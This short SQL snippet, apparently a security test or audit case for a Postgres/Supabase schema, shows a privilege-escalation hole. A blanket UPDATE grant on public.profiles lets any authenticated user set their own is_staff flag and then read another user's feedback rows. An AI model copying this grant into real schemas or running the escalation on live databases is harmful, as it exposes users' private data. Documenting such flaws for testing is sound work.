-- channel: escalation
-- object: public.profiles
-- says: Everybody may update the whole own profile, and is_staff is a column of it.
grant update on public.profiles to authenticated;
-- exploit as adam
update public.profiles set is_staff = true where id = auth.uid();
select from public.feedback where user_id = :bob;
-- leaks when rows
